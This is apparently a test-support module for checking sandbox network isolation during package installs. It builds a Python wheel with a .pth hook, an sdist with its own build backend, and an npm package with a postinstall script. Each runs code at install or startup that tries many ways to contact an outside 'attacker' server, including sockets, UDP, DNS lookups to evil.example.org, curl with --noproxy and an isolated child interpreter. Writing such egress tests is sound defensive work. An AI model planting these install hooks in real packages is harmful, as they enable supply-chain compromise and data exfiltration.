"""Packages that phone home while they are installed: an sdist whose build backend does, a wheel with a .pth, an npm package.

Lives here: the packages and what they try. May not live here: assertions, the servers that they try to reach.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import tarfile
import zipfile
from pathlib import Path

from tests.support.outside import OUTSIDE, PORT

URL = f"http://{OUTSIDE}:{PORT}"

PYTHON = f'''
import os, socket, subprocess, sys, urllib.request
def tries():
    def requests_way():
        import requests
        requests.get("{URL}/loot-requests", timeout=3)
    def urllib_way():
        urllib.request.urlopen("{URL}/loot-urllib", timeout=3)
    def direct_way():
        urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open("{URL}/loot-direct", timeout=3)
    def socket_way():
        with socket.create_connection(("{OUTSIDE}", {PORT}), 3) as s:
            s.sendall(b"loot-socket")
    def beneath_way():
        import _socket
        s = _socket.socket(); s.settimeout(3); s.connect(("{OUTSIDE}", {PORT})); s.send(b"loot-beneath")
    def udp_way():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"loot-udp", ("{OUTSIDE}", {PORT}))
    def dns_way():
        socket.getaddrinfo("loot-dns.evil.example.org", 80)
    def curl_way():
        subprocess.run(["curl", "-s", "-m", "3", "{URL}/loot-curl"])
    def noproxy_way():
        subprocess.run(["curl", "-s", "-m", "3", "--noproxy", "*", "{URL}/loot-noproxy"])
    def isolated_way():
        child = 'import socket; socket.create_connection(("{OUTSIDE}", {PORT}), 3).sendall(b"loot-isolated")'
        subprocess.run([sys.executable, "-I", "-S", "-c", child], env={{}}, stderr=subprocess.DEVNULL)
    for way in list(locals().values()):
        try:
            way()
        except Exception as e:
            pass
    with open(os.environ["TRIED"], "a") as f:
        f.write("tried\\n")
'''
"""Each way is tried whatever became of the others; what it got is judged at the attacker's server."""
PYTHON_WAYS = ("requests", "urllib", "direct", "socket", "beneath", "udp", "dns", "curl", "noproxy", "isolated")

NODE = f"""
const http = require("http"), net = require("net"), dgram = require("dgram"), dns = require("dns");
const {{ spawnSync }} = require("child_process");
const attempt = (start) => new Promise((done) => {{ setTimeout(done, 5000); start(done); }});
const over = (emitter, done) => emitter.on("error", done).on("close", done);
const curl = (path, ...more) => spawnSync("curl", ["-s", "-m", "3", ...more, "{URL}/" + path]);
(async () => {{
  try {{ await fetch("{URL}/loot-fetch"); }} catch (e) {{}}
  await attempt((done) => over(http.get("{URL}/loot-http", (r) => r.resume().on("end", done)), done));
  await attempt((done) => over(net.connect({PORT}, "{OUTSIDE}", function () {{ this.resume().end("loot-net"); }}), done));
  await attempt((done) => dgram.createSocket("udp4").send("loot-udp", {PORT}, "{OUTSIDE}", done));
  await attempt((done) => dns.lookup("loot-dns.evil.example.org", done));
  curl("loot-curl");
  curl("loot-noproxy", "--noproxy", "*");
  require("fs").appendFileSync(process.env.TRIED, "tried\\n");
  process.exit(0);
}})();
"""
NODE_WAYS = ("fetch", "http", "net", "udp", "dns", "curl", "noproxy")


def _wheel_files(extra: dict[str, str]) -> dict[str, str]:
    info = "phoning-1.0.dist-info"
    files = {
        "phoning.py": "",
        **extra,
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: phoning\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    lines = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        lines.append(f"{name},sha256={digest},{len(text.encode())}")
    return {**files, f"{info}/RECORD": "\n".join([*lines, f"{info}/RECORD,,", ""])}


def wheel(where: Path) -> Path:
    """A wheel whose .pth file runs code whenever an interpreter starts (site, docs.python.org/3/library/site.html)."""
    made = where / "phoning-1.0-py3-none-any.whl"
    files = _wheel_files({"phoning_hook.py": PYTHON + "\ntries()\n", "phoning.pth": "import phoning_hook\n"})
    with zipfile.ZipFile(made, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return made


def sdist(where: Path, code: str = PYTHON) -> Path:
    """An sdist that brings its own build backend (PEP 517, `backend-path`), so that nothing else has to be fetched.

    `code` defines `tries()`.
    """
    build = f"""
import zipfile
FILES = {_wheel_files({})!r}
def build_wheel(directory, config_settings=None, metadata_directory=None):
    tries()
    name = "phoning-1.0-py3-none-any.whl"
    with zipfile.ZipFile(directory + "/" + name, "w") as archive:
        for path, text in FILES.items():
            archive.writestr(path, text)
    return name
"""
    return _packed(
        where / "phoning-1.0.tar.gz",
        "phoning-1.0",
        {
            "pyproject.toml": '[project]\nname = "phoning"\nversion = "1.0"\n'
            '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
            "backend.py": code + build,
            "PKG-INFO": "Metadata-Version: 2.1\nName: phoning\nVersion: 1.0\n",
        },
    )


def npm(where: Path) -> Path:
    """An npm package with a post-install script."""
    described = {"name": "phoning", "version": "1.0.0", "scripts": {"postinstall": "node hook.js"}}
    return _packed(where / "phoning-1.0.0.tgz", "package", {"package.json": json.dumps(described), "hook.js": NODE})


def _packed(made: Path, top: str, files: dict[str, str]) -> Path:
    with tarfile.open(made, "w:gz") as tar:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"{top}/{name}")
            entry.size = len(text.encode())
            tar.addfile(entry, io.BytesIO(text.encode()))
    return made
